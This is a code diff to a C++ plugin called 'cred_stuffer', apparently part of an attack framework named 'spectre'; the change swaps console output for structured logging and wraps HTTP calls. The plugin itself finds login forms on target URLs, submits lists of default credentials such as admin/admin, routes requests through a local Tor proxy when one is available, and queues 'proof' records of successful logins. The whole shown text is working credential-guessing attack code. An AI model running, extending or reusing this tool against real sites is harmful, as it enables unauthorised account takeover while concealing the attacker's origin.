@@ -1,12 +1,17 @@
 #include "spectre/plugin.h"
 #include "spectre/proof_queue.h"
 #include "spectre/tor_proxy.h"
+#include "spectre/http_client.h"
+#include "spectre/log.h"
 #include <cpr/cpr.h>
-#include <iostream>
 #include <nlohmann/json.hpp>
 #include <regex>
 
 namespace {
+
+const spectre::LogSource& logger = spectre::Logger::get_instance().source("cred_stuffer");
+const spectre::TaskType task_type = spectre::intern_task_type("cred_stuffer");
+
 class CredStufferPlugin : public spectre::Plugin {
     std::vector<std::pair<std::string, std::string>> common_creds = {
         {"admin", "admin"},
@@ -21,25 +26,25 @@ public:
     std::string name() const override { return "cred_stuffer"; }
 
     void handle_task(const spectre::Task& task) override {
-        if (task.data.value("type", "") != name()) {
+        if (task.type != task_type) {
             return;
         }
 
-        std::string url = task.data.value("target", "");
+        const std::string& url = task.target;
         if (url.empty()) {
             return;
         }
 
-        std::cout << "[cred_stuffer] testing " << url << std::endl;
+        logger.info("testing", {{"target", url}});
 
         cpr::Session session;
-        session.SetUrl(cpr::Url{url});
+        spectre::HttpClient::get_instance().set_url(session, url);
         session.SetTimeout(cpr::Timeout{10000});
         if (spectre::TorProxy::get_instance().is_available()) {
             session.SetProxies({{"http", "socks5://127.0.0.1:9050"},
                                 {"https", "socks5://127.0.0.1:9050"}});
         }
-        cpr::Response r = session.Get();
+        cpr::Response r = spectre::HttpClient::get_instance().get(session);
         if (r.status_code != 200) {
             return;
         }
@@ -83,21 +88,19 @@ private:
             };
 
             cpr::Session login_session;
-            login_session.SetUrl(cpr::Url{action});
+            spectre::HttpClient::get_instance().set_url(login_session, action);
             login_session.SetPayload(payload);
             login_session.SetTimeout(cpr::Timeout{10000});
             if (spectre::TorProxy::get_instance().is_available()) {
                 login_session.SetProxies({{"http", "socks5://127.0.0.1:9050"},
                                           {"https", "socks5://127.0.0.1:9050"}});
             }
-            cpr::Response login_r = login_session.Post();
+            cpr::Response login_r = spectre::HttpClient::get_instance().post(login_session);
 
             if ((login_r.status_code == 301 || login_r.status_code == 302 || login_r.status_code == 200) &&
                 login_r.text.find(form_html) == std::string::npos) {
                 
-                std::cout << "[cred_stuffer] VULNERABILITY DISCOVERED" << std::endl;
-                std::cout << "  -> Target: " << base_url << std::endl;
-                std::cout << "  -> Credentials: " << user << ":" << pass << std::endl;
+                logger.warn("vulnerability discovered", {{"target", base_url}, {"username", user}});
                 submit_proof(base_url, user, pass, action);
                 return;
             }
@@ -120,7 +123,7 @@ private:
         };
         
         spectre::enqueue_proof(proof);
-        std::cout << "[cred_stuffer] proof queued" << std::endl;
+        logger.debug("proof queued");
     }
 };
 